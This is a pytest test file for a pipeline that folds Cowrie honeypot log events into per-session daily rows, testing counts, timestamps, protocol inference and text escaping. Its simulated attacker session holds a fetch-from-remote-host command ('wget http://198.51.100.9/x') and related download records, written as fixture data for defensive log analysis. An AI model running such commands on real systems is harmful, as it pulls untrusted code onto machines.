"""What the events of a day add up to, in whatever order they come."""

import json
from collections import Counter
from collections.abc import Iterable
from datetime import date, timedelta
from random import Random
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cowrie_pipeline.cowrie.fold import DayFold, FoldedRows, SessionDayRow
from cowrie_pipeline_tests.cowrie.log_lines import START, event_line, log

DAY = date(2026, 3, 18)
SHA256 = "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"


def folded(lines: Iterable[bytes]) -> FoldedRows:
    fold = DayFold(DAY)
    fold.add_lines(log(lines))
    return fold.take()


def only_day(lines: Iterable[bytes]) -> SessionDayRow:
    (row,) = folded(lines).session_days
    return row


def at(seconds: float, event_id: str, **fields: Any) -> bytes:
    return event_line(event_id, START + timedelta(seconds=seconds), **fields)


def time_of(seconds: float) -> str:
    return (START + timedelta(seconds=seconds)).strftime("%Y-%m-%d %H:%M:%S.%f")


SESSION = [
    at(0, "cowrie.session.connect", protocol="ssh"),
    at(1, "cowrie.client.version", version="SSH-2.0-Go"),
    at(1, "cowrie.client.kex", hassh="ec7378c1a92f5a8dde7e8b7a1ddf33d1"),
    at(2, "cowrie.login.failed", username="root", password="1"),
    at(3, "cowrie.login.success", username="root", password="2"),
    at(4, "cowrie.session.params", arch="linux-x64-lsb"),
    at(5, "cowrie.command.input", input="wget http://198.51.100.9/x; frobnicate"),
    at(5, "cowrie.command.failed", input="frobnicate"),
    at(6, "cowrie.session.file_download", url="http://198.51.100.9/x", shasum=SHA256, outfile="dl/e3", destfile="x"),
    at(7, "cowrie.session.file_download.failed", url="tftp://198.51.100.9/y"),
    at(8, "cowrie.session.file_upload", filename="z", shasum=SHA256.lower(), outfile="dl/e3"),
    at(9, "cowrie.direct-tcpip.request", dst_ip="www.example.com", dst_port=443),
    at(9, "cowrie.direct-tcpip.data", dst_ip="www.example.com", dst_port=443, data="b'x'"),
    at(9, "cowrie.client.fingerprint", username="root", fingerprint="aa:bb", key="AAAA", type="ssh-rsa"),
    at(10, "cowrie.session.closed", duration="10.0"),
    at(11, "cowrie.made.up", anything=1),
]


def test_a_session_is_counted_by_kind() -> None:
    row = only_day(SESSION)
    counts = {name: value for name, value in row._asdict().items() if name.endswith("_count")}
    assert counts == {
        "event_count": 16,
        "login_success_count": 1,
        "login_failed_count": 1,
        "command_input_count": 1,
        "command_outcome_count": 1,
        "command_failed_count": 1,
        "file_download_count": 1,
        "file_upload_count": 1,
        "tunnel_count": 1,
    }
    assert json.loads(row.event_counts) == Counter(json.loads(line)["eventid"] for line in SESSION)
    assert (row.sensor, row.session_id, row.source, row.source_ip) == (
        "pot", "a1b2c3d4e5f6", "203.0.113.7", "203.0.113.7",
    )  # fmt: skip
    assert (row.protocol, row.client_version, row.hassh) == ("ssh", "SSH-2.0-Go", "ec7378c1a92f5a8dde7e8b7a1ddf33d1")
    assert (row.first_event_at, row.last_event_at, row.first_connect_at) == (time_of(0), time_of(11), time_of(0))
    assert (row.is_closed, row.logged_duration_ms, str(row.day)) == (True, 10_000, "2026-03-18")


def test_every_detail_is_kept_as_it_was_logged() -> None:
    found = folded(SESSION)
    key = found.session_days[0].session_day_key
    assert [tuple(row) for row in found.login_attempts] == [
        (key, time_of(2), False, "root", "1", None),
        (key, time_of(3), True, "root", "2", None),
    ]
    assert [tuple(row) for row in found.commands] == [
        (key, time_of(5), "input", "wget http://198.51.100.9/x; frobnicate"),
        (key, time_of(5), "failed", "frobnicate"),
    ]
    assert [tuple(row) for row in found.session_files] == [
        (key, time_of(6), "download", "http://198.51.100.9/x", "x", SHA256.lower(), "dl/e3"),
        (key, time_of(7), "download_failed", "tftp://198.51.100.9/y", None, None, None),
        (key, time_of(8), "upload", None, "z", SHA256.lower(), "dl/e3"),
    ]
    assert [tuple(row) for row in found.tunnels] == [
        (key, time_of(9), "request", "www.example.com", 443, None),
        (key, time_of(9), "data", "www.example.com", 443, "b'x'"),
    ]
    assert [tuple(row) for row in found.client_keys] == [(key, time_of(9), "root", "aa:bb", "ssh-rsa", "AAAA")]


def test_what_fails_of_a_command_line_is_not_another_command_line() -> None:
    row = only_day(
        [at(0, "cowrie.command.input", input="a;b;c")] + [at(0, "cowrie.command.failed", input=each) for each in "abc"]
    )
    assert (row.command_input_count, row.command_outcome_count, row.command_failed_count) == (1, 3, 3)


def test_the_first_and_last_events_are_those_in_time_not_in_the_log() -> None:
    row = only_day([at(each, "cowrie.command.input") for each in (5, 9, 1, 7)])
    assert (row.first_event_at, row.last_event_at) == (time_of(1), time_of(9))


def test_times_of_every_form_compare_as_times() -> None:
    row = only_day(
        event_line("cowrie.command.input", time)
        for time in ("2026-03-18T14:00:01+0200", "2026-03-18T12:00:00Z", "2026-03-18T12:00:00.500000Z")
    )
    assert row.first_event_at == "2026-03-18 12:00:00.000000"
    assert row.last_event_at == "2026-03-18 12:00:01.000000"


@pytest.mark.parametrize("durations", [(88.7, "3.0"), ("3.0", 88.7), (88.7, "x"), (None, 88.7)])
def test_of_a_session_closed_twice_the_longer_duration_counts(durations: tuple[Any, Any]) -> None:
    row = only_day([at(n, "cowrie.session.closed", duration=each) for n, each in enumerate(durations)])
    assert (row.is_closed, row.logged_duration_ms) == (True, 88_700)


def test_a_session_without_a_close_is_not_closed() -> None:
    row = only_day([at(0, "cowrie.session.connect"), at(1, "cowrie.log.closed", duration=9.0)])
    assert (row.is_closed, row.logged_duration_ms) == (False, None)


@pytest.mark.parametrize(
    ("events", "protocol"),
    [
        ([("cowrie.session.connect", {})], None),
        ([("cowrie.session.connect", {"protocol": "telnet"})], "telnet"),
        ([("cowrie.client.version", {"version": "x"})], "ssh"),
        ([("cowrie.client.kex", {"hassh": "x"})], "ssh"),
        ([("cowrie.telnet.option", {})], "telnet"),
        ([("cowrie.login.failed", {"protocol": "ssh"})], "ssh"),
    ],
)
def test_the_protocol_is_what_was_logged_or_what_only_one_protocol_logs(
    events: list[tuple[str, dict[str, Any]]], protocol: str | None
) -> None:
    assert only_day(at(0, event_id, **fields) for event_id, fields in events).protocol == protocol


@pytest.mark.parametrize(
    ("logged", "kept"),
    [(SHA256, SHA256.lower()), ("abc", None), ("", None), (None, None), ("g" * 64, None), ("a" * 65, None), (7, None)],
)
def test_what_is_no_sha256_is_not_kept_as_one(logged: Any, kept: str | None) -> None:
    (file,) = folded([at(0, "cowrie.session.file_download", shasum=logged)]).session_files
    assert file.sha256 == kept


def test_text_that_cannot_be_stored_is_escaped_wherever_it_is() -> None:
    bad, good = "\x00\ud800", "\u241b0000\u241bd800"
    fields = {"session": bad, "sensor": bad, "src_ip": bad, "protocol": bad}
    found = folded(
        [
            at(0, "cowrie.login.failed", username=bad, password=bad, fingerprint=bad, **fields),
            at(0, "cowrie.command.input", input=bad, **fields),
            at(0, "cowrie.session.file_download", url=bad, outfile=bad, destfile=bad, **fields),
            at(0, "cowrie.session.file_upload", filename=bad, outfile=bad, **fields),
            at(0, "cowrie.direct-tcpip.data", dst_ip=bad, data=bad, **fields),
            at(0, "cowrie.client.fingerprint", username=bad, fingerprint=bad, key=bad, type=bad, **fields),
            at(0, "cowrie.client.version", version=bad, **fields),
            at(0, "cowrie.client.kex", hassh=bad, **fields),
            at(0, bad, **fields),
        ]
    )
    (row,) = found.session_days
    assert {row.session_id, row.sensor, row.source, row.client_version, row.hassh} == {good}
    assert row.source_ip is None
    texts = [value for rows in found for each in rows for value in each if isinstance(value, str)]
    assert len([text for text in texts if text == good]) >= 20
    for text in texts:
        assert "\x00" not in text
        assert "\\u0000" not in text
        text.encode()


def test_a_port_that_no_database_can_hold_is_left_out() -> None:
    found = folded([at(0, "cowrie.direct-tcpip.request", dst_ip="x", dst_port=port) for port in (2**32 - 1, 2**64, -1)])
    assert [tunnel.target_port for tunnel in found.tunnels] == [2**32 - 1, None, None]


def test_sensor_session_and_source_tell_sessions_apart_and_spellings_of_an_address_do_not() -> None:
    found = folded(
        [
            at(0, "cowrie.session.connect"),
            at(1, "cowrie.session.closed", src_ip="::ffff:203.0.113.7"),
            at(1, "cowrie.session.closed", sensor="other"),
            at(1, "cowrie.session.closed", session="other"),
            at(1, "cowrie.session.closed", src_ip="2001:db8::1"),
            at(1, "cowrie.session.closed", src_ip=None),
        ]
    )
    assert sorted(row.event_count for row in found.session_days) == [1, 1, 1, 1, 2]
    assert {row.source_ip for row in found.session_days} == {"203.0.113.7", "2001:db8::1", None}


@pytest.mark.parametrize("session", [None, "", 7])
def test_an_event_without_a_session_is_counted_and_belongs_to_none(session: Any) -> None:
    fold = DayFold(DAY)
    fold.add_lines(log([at(0, "cowrie.virustotal.scanfile", session=session), at(0, "cowrie.login.failed")]))
    assert fold.events_without_session == 1
    assert [row.event_count for row in fold.take().session_days] == [1]


def test_what_was_taken_is_not_given_again() -> None:
    fold = DayFold(DAY)
    fold.add_lines(log(SESSION))
    fold.take()
    assert fold.take() == FoldedRows([], [], [], [], [], [])
    fold.add_lines(log(SESSION[:1]))
    assert [row.event_count for row in fold.take().session_days] == [1]


def added_up(takes: Iterable[FoldedRows]) -> dict[int, dict[str, Any]]:
    """Parts of session days added up as the database does it."""
    merged: dict[int, dict[str, Any]] = {}
    for row in (row for take in takes for row in take.session_days):
        values = row._asdict() | {"event_counts": Counter(json.loads(row.event_counts))}
        known = merged.setdefault(row.session_day_key, values)
        if known is values:
            continue
        for name in known:
            value = values[name]
            both = [each for each in (known[name], value) if each is not None]
            if name.endswith("_count") or name == "event_counts":
                known[name] = known[name] + value
            elif name in ("first_event_at", "first_connect_at"):
                known[name] = min(both, default=None)
            else:
                known[name] = max(both, default=None)
    for known in merged.values():
        known.pop("may_continue", None)  # follows from the times, of which the database makes it
    return merged


events = st.tuples(
    st.integers(0, 20),
    st.sampled_from([json.loads(line)["eventid"] for line in SESSION]),
    st.fixed_dictionaries(
        {},
        optional={
            "session": st.sampled_from(["one", "two", ""]),
            "src_ip": st.sampled_from(["203.0.113.7", "::ffff:203.0.113.7", "2001:db8::1", "hash"]),
            "sensor": st.sampled_from(["pot", "other"]),
            "protocol": st.sampled_from(["ssh", "telnet"]),
            "version": st.sampled_from(["a", "B", "é", "\x00"]),
            "hassh": st.sampled_from(["a", "b"]),
            "duration": st.sampled_from([1.0, "2.5", "x"]),
            "input": st.sampled_from(["a", "b"]),
        },
    ),
)


@given(st.lists(events, max_size=25), st.randoms(use_true_random=False), st.lists(st.integers(0, 25), max_size=3))
def test_the_order_of_events_and_when_they_are_taken_do_not_matter(
    given_events: list[tuple[int, str, dict[str, Any]]], random: Random, cuts: list[int]
) -> None:
    lines = [at(seconds, event_id, **fields) for seconds, event_id, fields in given_events]
    whole = [folded(lines)]
    random.shuffle(lines)
    fold, takes = DayFold(DAY), []
    for start, end in zip([0, *sorted(cuts)], [*sorted(cuts), len(lines)], strict=True):
        fold.add_lines(log(lines[start:end]))
        takes.append(fold.take())
    assert added_up(takes) == added_up(whole)
    for details in FoldedRows._fields[1:]:
        apart = sorted((row for take in takes for row in getattr(take, details)), key=repr)
        assert apart == sorted(getattr(whole[0], details), key=repr)
    without = sum(1 for _, _, fields in given_events if fields.get("session") == "")
    assert fold.events_without_session == without
